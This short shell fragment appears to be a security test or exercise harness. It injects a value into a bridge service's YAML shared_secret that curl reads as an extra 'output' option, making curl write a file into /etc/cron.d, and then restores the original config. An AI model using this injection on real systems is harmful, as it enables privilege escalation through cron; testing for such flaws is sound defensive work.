# The bridge's user writes options of curl into the shared_secret of config.yaml: a line end spelled as YAML and as curl spell it.
strike() {
  as 1337 cp -p $bridge/config.yaml $bridge/config.kept
  as 1337 sed -i 's/^\( *shared_secret: \).*/\1"x\\"\\noutput = \\"\/etc\/cron.d\/practice-canary"\n\1"y"/' $bridge/config.yaml
}
clean() { as 1337 mv $bridge/config.kept $bridge/config.yaml; }
